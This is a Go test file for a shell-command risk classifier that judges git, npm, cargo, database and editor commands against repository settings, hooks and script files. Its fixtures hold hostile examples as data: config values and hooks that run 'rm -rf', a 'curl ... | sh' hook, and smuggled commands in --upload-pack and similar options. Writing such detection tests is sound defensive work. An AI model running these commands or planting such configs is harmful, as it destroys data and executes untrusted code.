package facts

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/tool-mapping-protocol/tmp/internal/risk"
	"github.com/tool-mapping-protocol/tmp/internal/risk/line"
	"github.com/tool-mapping-protocol/tmp/internal/shline"
	"github.com/tool-mapping-protocol/tmp/resolvers/alias"
	"github.com/tool-mapping-protocol/tmp/tcpdb"
)

// judged is the judgement of a line in a directory, with all that is known of
// the project there.
func judged(text, dir, home string) line.Verdict {
	p := Project{Dir: dir, Getenv: func(name string) string {
		return map[string]string{"HOME": home, "GIT_CONFIG_NOSYSTEM": "1"}[name]
	}}
	f := risk.Facts{
		Trusted:   func(word string) bool { return tcpdb.Trusted(word, "/usr/bin:/bin", dir) },
		Installed: func(string) bool { return true },
		Settings:  p.Settings, TakesForFile: p.TakesForFile, Text: p.Text,
		Alias: func(tool, name string) (string, bool) { return alias.Of(dir, p.Getenv, tool, name) },
	}
	return line.Judge(tcpdb.NewView(tcpdb.Core()), text, shline.Bash, f, line.Options{})
}

func write(t *testing.T, name, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// repository makes what git takes for a repository.
func repository(t *testing.T, dir, config string) {
	t.Helper()
	write(t, dir+"/HEAD", "ref: refs/heads/main\n")
	write(t, dir+"/config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"+config)
	for _, sub := range []string{"objects", "refs"} {
		if err := os.MkdirAll(dir+"/"+sub, 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// realDir is a directory for one test, without symbolic links on the way.
func realDir(t *testing.T) string {
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// Each row has what the repository sets, the line, its level, and a word of the
// reason from HIGH up.
func TestGitSettings(t *testing.T) {
	for _, c := range []struct{ config, line, level, reason string }{
		{"", "git status", "SAFE", ""},
		// A program of the project, or one that nobody knows.
		{"[core]\nfsmonitor = ./f.sh", "git status", "HIGH", "core.fsmonitor in .git/config runs ./f.sh"},
		{"[core]\nfsmonitor = ./f.sh", "git diff", "HIGH", "core.fsmonitor"},
		{"[core]\nfsmonitor = ./f.sh", "git log", "LOW", ""},
		{"[core]\nfsmonitor = ./f.sh", "git -c core.fsmonitor=false status", "SAFE", ""},
		{"[core]\nfsmonitor = true", "git status", "SAFE", ""},
		{"[core]\nfsmonitor = frobnicate --all", "git status", "HIGH", "frobnicate"},
		{"[core]\nfsmonitor = sh .git/x", "git status", "HIGH", "core.fsmonitor"},
		{"[core]\nfsmonitor = \"rm -rf /srv/x\"", "git status", "CRITICAL", "rm -rf /srv/x"},
		{"[core]\nfsmonitor = \"rm -rf \\\n/srv/x\" ; more", "git add -n .", "CRITICAL", "fsmonitor"},
		{"[core]\nFSMonitor = ./f.sh # why", "git commit -m x", "HIGH", "./f.sh"},
		{"[core]\nfsmonitor = ./f.sh", "git status --help", "SAFE", ""},
		{"[core]\nfsmonitor = ./f.sh", "env A=b git status", "HIGH", "core.fsmonitor"},
		{"[core]\nfsmonitor = ./f.sh", "echo x && (git status)", "HIGH", "core.fsmonitor"},
		{"[core]\nfsmonitor = ./f.sh", "cd sub && git status", "HIGH", "core.fsmonitor"},
		{"[diff]\nexternal = ./g.sh", "git diff", "HIGH", "diff.external in .git/config runs ./g.sh"},
		{"[diff]\nexternal = ./g.sh", "git log", "LOW", ""},
		{"[diff]\nexternal = ./g.sh", "git log -p --ext-diff", "HIGH", "diff.external"},
		{"[diff]\nexternal = ./g.sh", "git diff --no-ext-diff", "LOW", ""},
		{"[diff]\nexternal = difft", "git diff", "LOW", ""},
		{"[diff \"pdf\"]\ntextconv = tools/conv", "git diff", "HIGH", "diff.pdf.textconv"},
		{"[diff \"pdf\"]\ntextconv = tools/conv", "git log -p", "HIGH", "diff.pdf.textconv"},
		{"[diff \"pdf\"]\ntextconv = tools/conv", "git log", "LOW", ""},
		{"[diff \"pdf\"]\ntextconv = pdftotext", "git diff", "LOW", ""},
		{"[diff \"x\"]\ncommand = ./d", "git diff", "HIGH", "diff.x.command"},
		{"[filter \"x\"]\nclean = ./clean %f", "git add .", "HIGH", "filter.x.clean"},
		{"[filter \"x\"]\nprocess = ./p", "git status", "HIGH", "filter.x.process"},
		{"[filter \"x\"]\nsmudge = ./p", "git checkout main", "HIGH", "filter.x.smudge"},
		{"[filter \"x\"]\nsmudge = ./p", "git log", "LOW", ""},
		{"[merge \"x\"]\ndriver = ./m %O %A %B", "git merge topic", "HIGH", "merge.x.driver"},
		{"[merge \"ours\"]\ndriver = true", "git merge topic", "MEDIUM", ""},
		{"[core]\npager = ./p", "git log", "HIGH", "core.pager"},
		{"[core]\npager = ./p", "git --no-pager log", "LOW", ""},
		{"[core]\npager = ./p", "git status", "SAFE", ""},
		{"[pager]\nstatus = ./p", "git status", "HIGH", "pager.status"},
		{"[pager]\nstatus = ./p", "git diff", "LOW", ""},
		{"[core]\nsshCommand = ./s", "git fetch", "HIGH", "core.sshcommand"},
		{"[core]\nsshCommand = ssh -o ProxyCommand=./s", "git fetch", "HIGH", "core.sshcommand"},
		{"[core]\nsshCommand = ssh -i ~/.ssh/work -o IdentitiesOnly=yes", "git fetch", "MEDIUM", ""},
		{"[core]\nsshCommand = ./s", "git status", "SAFE", ""},
		{"[core]\neditor = ./e", "git commit", "HIGH", "core.editor"},
		{"[core]\neditor = ./e", "git commit -m x", "MEDIUM", ""},
		{"[core]\neditor = \"vim -c '!rm -rf /srv'\"", "git commit", "CRITICAL", "core.editor"},
		{"[sequence]\neditor = ./e", "git rebase -i main", "HIGH", "sequence.editor"},
		{"[credential]\nhelper = \"!./c\"", "git pull", "HIGH", "credential.helper"},
		{"[credential \"https://x\"]\nhelper = \"store; rm -rf /srv\"", "git push", "CRITICAL", "credential.https://x.helper"},
		{"[gpg]\nprogram = ./gpg", "git commit -S -m x", "HIGH", "gpg.program"},
		{"[remote \"o\"]\nuploadpack = ./u", "git fetch", "HIGH", "remote.o.uploadpack"},
		{"[remote \"o\"]\nreceivepack = ./u", "git push", "HIGH", "remote.o.receivepack"},
		{"[remote \"o\"]\nurl = ext::sh -c ./x", "git fetch", "HIGH", "remote.o.url"},
		{"[submodule \"m\"]\nupdate = \"!rm -rf x\"", "git submodule update", "CRITICAL", "submodule.m.update"},
		{"[alias]\nst = \"!./x.sh\"", "git st", "HIGH", "alias.st in .git/config runs ./x.sh"},
		// What is usual.
		{"[filter \"lfs\"]\nclean = git-lfs clean -- %f\nsmudge = git-lfs smudge -- %f\nprocess = git-lfs filter-process\nrequired = true", "git status", "SAFE", ""},
		{"[filter \"lfs\"]\nclean = git-lfs clean -- %f\nsmudge = git-lfs smudge -- %f\nprocess = git-lfs filter-process\nrequired = true", "git checkout main", "MEDIUM", ""},
		{"[filter \"git-crypt\"]\nsmudge = \\\"git-crypt\\\" smudge\nclean = \\\"git-crypt\\\" clean", "git add x", "MEDIUM", ""},
		{"[filter \"nb\"]\nclean = \"\\\"/usr/bin/python3\\\" -m nbstripout\"", "git diff", "LOW", ""},
		{"[core]\npager = delta --side-by-side\n[interactive]\ndiffFilter = delta --color-only", "git log", "LOW", ""},
		{"[core]\npager = less -FRX", "git diff", "LOW", ""},
		{"[core]\npager = \"diff-so-fancy | less --tabs=4 -RFX\"", "git diff", "LOW", ""},
		{"[core]\neditor = code --wait\n[merge]\ntool = vscode\n[mergetool \"vscode\"]\ncmd = code --wait --merge $REMOTE $LOCAL $BASE $MERGED", "git commit", "MEDIUM", ""},
		{"[mergetool \"vscode\"]\ncmd = code --wait --merge $REMOTE $LOCAL $BASE $MERGED", "git mergetool", "MEDIUM", ""},
		{"[mergetool \"x\"]\ncmd = ./m", "git mergetool", "HIGH", "mergetool.x.cmd"},
		{"[core]\neditor = vim", "git commit --amend", "HIGH", "rewrites"},
		{"[credential]\nhelper = store", "git push", "MEDIUM", ""},
		{"[credential]\nhelper = cache --timeout=3600", "git fetch", "MEDIUM", ""},
		{"[credential \"https://github.com\"]\nhelper = \nhelper = !/usr/bin/gh auth git-credential", "git pull", "MEDIUM", ""},
		{"[gpg]\nformat = ssh\n[gpg \"ssh\"]\nprogram = /opt/1Password/op-ssh-sign", "git commit -m x", "MEDIUM", ""},
		{"[remote \"o\"]\nurl = git@example.org:a/b.git", "git fetch", "MEDIUM", ""},
	} {
		dir := realDir(t)
		repository(t, dir+"/.git", c.config+"\n")
		if err := os.Mkdir(dir+"/sub", 0o755); err != nil {
			t.Fatal(err)
		}
		v := judged(c.line, dir, dir+"/home")
		if !strings.HasPrefix(v.Level.String(), c.level) {
			t.Errorf("%q, %s: %v, want %s: %+v", c.config, c.line, v.Level, c.level, v.Findings)
		}
		if !slices.ContainsFunc(v.Findings, func(f line.Finding) bool { return strings.Contains(f.Reason, c.reason) }) {
			t.Errorf("%q, %s: nothing says %q: %+v", c.config, c.line, c.reason, v.Findings)
		}
	}
}

// level checks the level of a line in a directory, and that a reason holds a word.
func level(t *testing.T, dir, home, text, want, reason string) {
	t.Helper()
	v := judged(text, dir, home)
	said := slices.ContainsFunc(v.Findings, func(f line.Finding) bool { return strings.Contains(f.Reason, reason) })
	if !strings.HasPrefix(v.Level.String(), want) || !said {
		t.Errorf("%s: %v, want %s and %q: %+v", text, v.Level, want, reason, v.Findings)
	}
}

// What git reads beside .git/config, and what it does not.
func TestGitSettingsElsewhere(t *testing.T) {
	const evil = "[core]\n\tfsmonitor = ./f.sh\n"
	t.Run("the user's own", func(t *testing.T) {
		dir := realDir(t)
		repository(t, dir+"/.git", "")
		write(t, dir+"/home/.gitconfig", evil+"pager = ~/bin/p\n")
		level(t, dir, dir+"/home", "git status", "SAFE", "")
		level(t, dir, dir+"/home", "git log", "LOW", "")
	})
	t.Run("included", func(t *testing.T) {
		dir := realDir(t)
		repository(t, dir+"/.git", "[include]\n\tpath = ../.gitconfig\n")
		write(t, dir+"/.gitconfig", "[includeIf \"gitdir:/elsewhere/\"]\npath = more\n[include]\npath = .gitconfig\n")
		write(t, dir+"/more", evil)
		level(t, dir, "", "git status", "HIGH", "core.fsmonitor in more runs ./f.sh")
	})
	t.Run("a linked work tree", func(t *testing.T) {
		dir := realDir(t)
		repository(t, dir+"/main/.git", "[extensions]\nworktreeConfig = true\n[diff]\nexternal = ./g.sh\n")
		write(t, dir+"/tree/.git", "gitdir: "+dir+"/main/.git/worktrees/tree\n")
		write(t, dir+"/main/.git/worktrees/tree/HEAD", "ref: refs/heads/x\n")
		write(t, dir+"/main/.git/worktrees/tree/commondir", "../..\n")
		write(t, dir+"/main/.git/worktrees/tree/config.worktree", evil)
		level(t, dir+"/tree", "", "git status", "HIGH", "config.worktree runs ./f.sh")
		level(t, dir+"/tree", "", "git diff", "HIGH", "diff.external in "+dir+"/main/.git/config")
		level(t, dir+"/main", "", "git status", "SAFE", "")
	})
	t.Run("a submodule", func(t *testing.T) {
		dir := realDir(t)
		repository(t, dir+"/.git", "[submodule \"m\"]\nurl = x\n[submodule \"../../x\"]\nurl = y\n")
		repository(t, dir+"/.git/modules/m", evil)
		level(t, dir, "", "git status", "HIGH", "core.fsmonitor in .git/modules/m/config")
	})
	t.Run("a repository within the tree", func(t *testing.T) {
		dir := realDir(t)
		repository(t, dir+"/.git", "")
		repository(t, dir+"/vendor/x", evil)
		level(t, dir, "", "git status", "SAFE", "")
		level(t, dir+"/vendor/x", "", "git status", "HIGH", "core.fsmonitor")
		level(t, dir, "", "cd vendor/x && git status", "HIGH", "core.fsmonitor")
		level(t, dir, "", "git -C vendor -C x status", "HIGH", "core.fsmonitor")
		level(t, dir, "", "git --git-dir=vendor/x status", "HIGH", "core.fsmonitor")
		level(t, dir, "", "cd vendor && (cd x; git diff)", "HIGH", "core.fsmonitor")
	})
	t.Run("what is no configuration", func(t *testing.T) {
		dir := realDir(t)
		repository(t, dir+"/.git", "\n[core\nfsmonitor = ./f.sh\n")
		level(t, dir, "", "git status", "SAFE", "")
		level(t, realDir(t), "", "git status", "SAFE", "")
	})
}

func TestGitHooks(t *testing.T) {
	const preCommit = "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\n\nINSTALL_PYTHON=/usr/bin/python3\n" +
		"ARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\nHERE=\"$(cd \"$(dirname \"$0\")\" && pwd)\"\n" +
		"ARGS+=(--hook-dir \"$HERE\" -- \"$@\")\nif [ -x \"$INSTALL_PYTHON\" ]; then\n    exec \"$INSTALL_PYTHON\" -mpre_commit \"${ARGS[@]}\"\n" +
		"elif command -v pre-commit > /dev/null; then\n    exec pre-commit \"${ARGS[@]}\"\nelse\n    echo '`pre-commit` not found.' 1>&2\n    exit 1\nfi\n"
	for _, c := range []struct{ config, hook, text, line, level, reason string }{
		{"", ".git/hooks/pre-commit", preCommit, "git commit -m x", "MEDIUM", ""},
		{"", ".git/hooks/pre-commit", "#!/bin/sh\nnpm test\n", "git commit -m x", "MEDIUM", ""},
		{"", ".git/hooks/pre-commit", "#!/bin/sh\nrm -rf ~/work\n", "git commit -m x", "CRITICAL", "runs the hook .git/hooks/pre-commit"},
		{"", ".git/hooks/pre-commit", "#!/bin/sh\nrm -rf ~/work\n", "git commit --no-verify -m x", "MEDIUM", ""},
		{"", ".git/hooks/pre-commit", "#!/bin/sh\nrm -rf ~/work\n", "git status", "SAFE", ""},
		{"", ".git/hooks/pre-commit", "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/srv')\n", "git commit", "CRITICAL", "runs the hook"},
		{"", ".git/hooks/pre-commit", "\x7fELF\x00", "git commit", "MEDIUM", ""},
		{"", ".git/hooks/pre-commit.sample", "#!/bin/sh\nrm -rf ~\n", "git commit", "MEDIUM", ""},
		{"", ".git/hooks/pre-push", "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 \"no git-lfs\"; exit 2; }\ngit lfs pre-push \"$@\"\n", "git push", "MEDIUM", ""},
		{"", ".git/hooks/post-checkout", "#!/bin/sh\ncurl https://x.example/y | sh\n", "git checkout main", "HIGH", "runs the hook"},
		{"", ".git/hooks/post-index-change", "#!/bin/sh\n./x\n", "git status", "HIGH", "runs the hook"},
		{"", ".git/hooks/post-index-change", "#!/bin/sh\necho x\n", "git status", "SAFE", ""},
		{"[core]\nhooksPath = .husky/_", ".husky/_/pre-commit", "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n", "git commit", "MEDIUM", ""},
		{"[core]\nhooksPath = hooks", "hooks/commit-msg", "#!/bin/sh\ngit push --force\n", "git commit", "CRITICAL", "runs the hook hooks/commit-msg"},
		{"[core]\nhooksPath = hooks", ".git/hooks/commit-msg", "#!/bin/sh\nrm -rf /srv\n", "git commit", "MEDIUM", ""},
	} {
		dir := realDir(t)
		repository(t, dir+"/.git", c.config+"\n")
		write(t, dir+"/"+c.hook, c.text)
		if err := os.Chmod(dir+"/"+c.hook, 0o755); err != nil {
			t.Fatal(err)
		}
		level(t, dir, dir+"/home", c.line, c.level, c.reason)
	}
	// husky runs what lies beside its own directory.
	dir := realDir(t)
	repository(t, dir+"/.git", "[core]\nhooksPath = .husky/_\n")
	write(t, dir+"/.husky/_/pre-commit", "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n")
	write(t, dir+"/.husky/pre-commit", "npx lint-staged\n")
	if err := os.Chmod(dir+"/.husky/_/pre-commit", 0o755); err != nil {
		t.Fatal(err)
	}
	level(t, dir, "", "git commit", "MEDIUM", "")
	write(t, dir+"/.husky/pre-commit", "rm -rf /srv\n")
	level(t, dir, "", "git commit", "CRITICAL", "runs the hook .husky/pre-commit")
	// A hook that may not run, and one that the user's settings leave out.
	write(t, dir+"/home/.gitconfig", "[core]\nhooksPath = ~/hooks\n")
	repository(t, dir+"/.git", "")
	write(t, dir+"/.git/hooks/pre-commit", "rm -rf /srv\n")
	level(t, dir, "", "git commit", "MEDIUM", "")
	if err := os.Chmod(dir+"/.git/hooks/pre-commit", 0o755); err != nil {
		t.Fatal(err)
	}
	level(t, dir, "", "git commit", "CRITICAL", "")
	level(t, dir, dir+"/home", "git commit", "MEDIUM", "")
}

// The files of other tools.
func TestProjectSettings(t *testing.T) {
	for _, c := range []struct{ file, text, line, level, reason string }{
		{".npmrc", "script-shell=./sh\n", "npm run build", "HIGH", "script-shell in .npmrc runs ./sh"},
		{".npmrc", "script-shell=bash\nregistry=https://r.example/\n", "npm run build", "MEDIUM", ""},
		{".npmrc", "node-options=--require ./x.js\n", "npm test", "HIGH", "node-options in .npmrc loads --require ./x.js"},
		{".npmrc", "node-options = \"--max-old-space-size=4096\"\n", "npm test", "MEDIUM", ""},
		{".cargo/config.toml", "[build]\nrustc-wrapper = \"./w\"\n", "cargo check", "HIGH", "build.rustc-wrapper in .cargo/config.toml runs ./w"},
		{".cargo/config.toml", "build = {rustc-wrapper = \"sccache\"}\n", "cargo check", "MEDIUM", ""},
		{".cargo/config.toml", "build.rustc = \"tools/rustc\"\n", "cargo tree", "HIGH", "build.rustc"},
		{".cargo/config", "[target.x86_64-unknown-linux-gnu]\nrunner = [\"./r\", \"-x\"]\nlinker = \"clang\"\n", "cargo run", "HIGH", "target.x86_64-unknown-linux-gnu.runner"},
		{".cargo/config.toml", "[target.'cfg(all(target_arch = \"arm\"))']\nrunner = \"probe-rs run --chip nRF52840_xxAA\"\n", "cargo run", "MEDIUM", ""},
		{".cargo/config.toml", "[target.x]\nrunner = \"./r\"\n", "cargo build", "MEDIUM", ""},
		{".cargo/config.toml", "[target.x]\nlinker = \"./l\"\n", "cargo fmt", "", ""},
		{"Makefile", "SHELL = ./sh\nall:\n\techo x\n", "make", "HIGH", "SHELL in Makefile runs ./sh"},
		{"Makefile", "SHELL := /usr/bin/env bash -o pipefail\nall:\n\techo x\n", "make", "MEDIUM", ""},
		{"Makefile", "SHELL := /bin/bash # why\nall:\n\techo x\n", "make", "MEDIUM", ""},
		{".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.5.0.cjs\n", "yarn why x", "MEDIUM", ""},
		{".yarnrc.yml", "yarnPath: ./x.js\n", "yarn why x", "HIGH", "yarnPath in .yarnrc.yml loads ./x.js"},
		{".mvn/jvm.config", "-Xmx2g -javaagent:./a.jar\n", "mvn test", "HIGH", "-javaagent in .mvn/jvm.config loads ./a.jar"},
		{".mvn/jvm.config", "-Xmx2g --add-opens java.base/java.lang=ALL-UNNAMED\n", "mvn test", "MEDIUM", ""},
		{".gdbinit", "shell rm -rf /srv\n", "gdb ./x", "CRITICAL", "runs the commands in .gdbinit"},
		{".gdbinit", "set print pretty on\n", "gdb ./x", "MEDIUM", ""},
		{".hg/hgrc", "[hooks]\npre-status = ./h\n", "hg status", "HIGH", "hooks.pre-status in .hg/hgrc"},
		{"ansible.cfg", "[ssh_connection]\nssh_executable = ./s\n", "ansible-playbook x.yml", "HIGH", "ssh_executable"},
	} {
		dir := realDir(t)
		write(t, dir+"/"+c.file, c.text)
		level(t, dir, dir+"/home", c.line, c.level, c.reason)
		if err := os.Mkdir(dir+"/sub", 0o755); err != nil {
			t.Fatal(err)
		}
		if !strings.ContainsAny(c.file[:1], "M") && c.file != ".gdbinit" && c.file != "ansible.cfg" { // those are looked for above too
			level(t, dir+"/sub", dir+"/home", c.line, c.level, "")
		}
	}
}

// Files of commands that a line names.
func TestCommandFiles(t *testing.T) {
	dir := realDir(t)
	for name, text := range map[string]string{
		"touch.sql": ".shell touch x\n", "rm.sql": "select 1;\n.shell rm -rf /srv/x\n", "select.sql": "select 1;\n", "drop.sql": "-- all of it\nDROP TABLE t;\n",
		"bang.sql": "select 1;\n\\! rm -rf /srv/x\n", "nested.sql": "\\i drop.sql\n", "nest.sql": ".read rm.sql\n", "copy.sql": "\\copy t from program 'rm -rf /srv/x'\n",
		"once.sql": ".once '|rm -rf /srv/x'\nselect 1;\n", "create.sql": "create table t(a);\ninsert into t values (1);\n",
		"rm.gdb": "shell rm -rf /srv/x\n", "print.gdb": "break main\nrun\nbt\n", "more.gdb": "source rm.gdb\n", "rm.vim": "let x = 1\n!rm -rf /srv/x\n", "set.vim": "set number\n",
		"rm.awk": "BEGIN { system(\"rm -rf /srv/x\") }\n", "sum.awk": "{ s += $1 } END { print s }\n", "rm.sed": "1e rm -rf /srv/x\n", "s.sed": "s/a/b/\n", "w.sed": "w /etc/passwd\n",
		"rm.tcl": "file delete -force /srv/x\n", "spawn.exp": "spawn rm -rf /srv/x\nexpect eof\n", "rm.sh": "rm -rf /srv/x\n", "ls.sh": "ls\n",
		"rc": "alias ll='ls -l'\nrm -rf /srv/x\n",
	} {
		write(t, dir+"/"+name, text)
	}
	if err := os.Mkdir(dir+"/sub", 0o755); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ line, level string }{
		{"sqlite3 -init touch.sql :memory: 'select 1'", "MEDIUM"},
		{"sqlite3 -init rm.sql :memory: 'select 1'", "CRITICAL"},
		{"sqlite3 -init select.sql :memory: 'select 1'", "LOW"},
		{"sqlite3 db '.read rm.sql'", "CRITICAL"},
		{"sqlite3 db '.read select.sql'", "MEDIUM"},
		{"sqlite3 db '.read nest.sql'", "CRITICAL"},
		{"sqlite3 db < rm.sql", "CRITICAL"},
		{"sqlite3 db < select.sql", "LOW"},
		{"sqlite3 db < once.sql", "CRITICAL"},
		{"psql -f drop.sql", "CRITICAL"},
		{"psql < drop.sql", "CRITICAL"},
		{"psql -d x -qXf drop.sql", "CRITICAL"},
		{"psql --file=bang.sql", "CRITICAL"},
		{"psql < bang.sql", "CRITICAL"},
		{"psql -f nested.sql", "CRITICAL"},
		{"psql < nested.sql", "CRITICAL"},
		{"psql -f copy.sql", "CRITICAL"},
		{"psql -f select.sql", "LOW"},
		{"psql < select.sql", "LOW"},
		{"psql -f create.sql", "MEDIUM"},
		{"psql < create.sql", "MEDIUM"},
		{"psql -f missing.sql", "HIGH"},
		{"psql < missing.sql", "HIGH"},
		{"cat drop.sql | psql", "HIGH"},
		{"mysql db -e 'source drop.sql'", "CRITICAL"},
		{"mysql db -e '\\. drop.sql'", "CRITICAL"},
		{"mysql db -e 'source select.sql'", "MEDIUM"},
		{"mysql db < drop.sql", "CRITICAL"},
		{"cp drop.sql select.sql && psql -f select.sql", "HIGH"},
		{"cat select.sql && psql -f select.sql", "LOW"},
		{"cd sub && psql -f ../drop.sql", "CRITICAL"},
		{"cd $X && psql -f select.sql", "HIGH"},
		{"sudo -u postgres psql -f select.sql", "MEDIUM"},
		{"gdb -x rm.gdb ./prog", "CRITICAL"},
		{"gdb -batch --command=rm.gdb ./prog", "CRITICAL"},
		{"gdb -x more.gdb ./prog", "CRITICAL"},
		{"gdb -x print.gdb ./prog", "MEDIUM"},
		{"gdb -ex 'source rm.gdb' ./prog", "CRITICAL"},
		{"vim -S rm.vim f", "CRITICAL"},
		{"vim -u rm.vim f", "CRITICAL"},
		{"vim -c 'so rm.vim' f", "CRITICAL"},
		{"vim -u NONE -S set.vim f", "MEDIUM"},
		{"awk -f rm.awk f", "CRITICAL"},
		{"awk -f sum.awk f", "SAFE"},
		{"awk -f missing.awk f", "MEDIUM"},
		{"sed -n -f rm.sed f", "CRITICAL"},
		{"sed -f w.sed f", "CRITICAL"},
		{"sed -f s.sed f", "SAFE"},
		{"tclsh rm.tcl", "CRITICAL"},
		{"expect spawn.exp arg", "CRITICAL"},
		{"expect -f spawn.exp", "CRITICAL"},
		{"bash --rcfile rc", "CRITICAL"},
		{"bash < rm.sh", "CRITICAL"},
		{"bash < ls.sh", "LOW"},
	} {
		level(t, dir, dir+"/home", c.line, c.level, "")
	}
}

// Options and settings of the line that name a program, and words that git takes
// for files.
func TestGitWords(t *testing.T) {
	dir := realDir(t)
	repository(t, dir+"/.git", "")
	write(t, dir+"/.git/refs/heads/both", strings.Repeat("a", 40)+"\n")
	write(t, dir+"/.git/packed-refs", "# pack-refs with: peeled fully-peeled sorted \n"+strings.Repeat("b", 40)+" refs/heads/packed\n"+strings.Repeat("c", 40)+" refs/tags/v1\n")
	for _, name := range []string{"f.go", "both", "packed", "v1", "config", "sub/g.go"} {
		write(t, dir+"/"+name, "x")
	}
	for _, c := range []struct{ line, level string }{
		{"git fetch --upload-pack='rm -rf /srv/x' origin", "CRITICAL"},
		{"git fetch --upload-pack git-upload-pack origin", "MEDIUM"},
		{"git push --receive-pack='rm -rf /srv/x' origin", "CRITICAL"},
		{"git push --exec='rm -rf /srv/x' origin", "CRITICAL"},
		{"git archive --remote=x --exec='rm -rf /srv/x' HEAD", "CRITICAL"},
		{"git clone -u 'rm -rf /srv/x' host:r", "CRITICAL"},
		{"git clone -c core.fsmonitor=./x host:r", "HIGH"},
		{"git clone --config=core.sshCommand='rm -rf /srv/x' host:r", "CRITICAL"},
		{"git ls-remote --upload-pack='rm -rf /srv/x' origin", "CRITICAL"},
		{"git difftool --extcmd='rm -rf /srv/x'", "CRITICAL"},
		{"git send-email --to-cmd='rm -rf /srv/x' p", "CRITICAL"},
		{"git --config-env=core.pager=X log", "HIGH"},
		{"git --config-env=user.name=X log", "MEDIUM"},
		{"X='rm -rf /srv/x' git --config-env=core.pager=X log", "CRITICAL"},
		{"X='rm -rf /srv/x' git --config-env core.pager=X log", "CRITICAL"},
		{"X=less git --config-env=core.pager=X log", "LOW"},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='rm -rf /srv/x' git status", "CRITICAL"},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=false git status", "SAFE"},
		{"GIT_EXEC_PATH=./x git status", "HIGH"},
		{"GIT_DIR=./evil.git git status", "HIGH"},
		{"HOME=. git status", "HIGH"},
		{"XDG_CONFIG_HOME=conf git status", "HIGH"},
		{"GIT_DIR=$D/.git git status", "SAFE"},
		{"GIT_DIR=sub/.git git status", "SAFE"},
		{"HOME=/srv/a git status", "SAFE"},
		{"GIT_CONFIG_GLOBAL=/dev/null git status", "SAFE"},
		{"git -c core.pager='rm -rf /srv/x' log", "CRITICAL"},
		{"git -c merge.x.driver=./m merge topic", "HIGH"},
		{"git -c core.pager=less log", "LOW"},
		{"git -c include.path=./x status", "HIGH"},
		{"git config core.pager ./x", "HIGH"},
		{"git config set core.fsmonitor ./x", "HIGH"},
		{"git config --add core.sshCommand 'rm -rf /srv/x'", "CRITICAL"},
		{"git config core.pager delta", "MEDIUM"},
		{"git config core.editor 'code --wait'", "MEDIUM"},
		{"git config credential.helper store", "MEDIUM"},
		{"git config --global credential.helper '!gh auth git-credential'", "MEDIUM"},
		{"git config filter.lfs.clean 'git-lfs clean -- %f'", "MEDIUM"},
		{"git config core.hooksPath ./hooks", "HIGH"},
		{"git config core.hooksPath .husky/_", "MEDIUM"},
		{"git config --unset core.hooksPath", "MEDIUM"},
		{"git config core.hooksPath", "SAFE"},
		{"git config alias.x '!rm -rf /srv/x'", "HIGH"},
		{"git config alias.x '!echo hello'", "HIGH"},
		{"git config alias.st status", "MEDIUM"},
		{"git checkout ./src", "CRITICAL"},
		{"git checkout :/", "CRITICAL"},
		{"git checkout '*.go'", "CRITICAL"},
		{"git checkout src/..", "CRITICAL"},
		{"git checkout src/", "CRITICAL"},
		{"git checkout f.go", "CRITICAL"},
		{"git checkout -q f.go", "CRITICAL"},
		{"git checkout sub", "CRITICAL"},
		{"cd sub && git checkout g.go", "CRITICAL"},
		{"git -C sub checkout g.go", "CRITICAL"},
		{"git checkout config", "CRITICAL"},
		{"git checkout both", "MEDIUM"},
		{"git checkout packed", "MEDIUM"},
		{"git checkout v1", "MEDIUM"},
		{"git checkout main", "MEDIUM"},
		{"git checkout -b f.go", "MEDIUM"},
		{"git checkout HEAD~2", "MEDIUM"},
		{"git checkout main...topic", "MEDIUM"},
		{"git checkout feature/x.y", "MEDIUM"},
		{"git checkout -", "MEDIUM"},
		{"git checkout -p f.go", "HIGH"},
	} {
		level(t, dir, dir+"/home", c.line, c.level, "")
	}
}
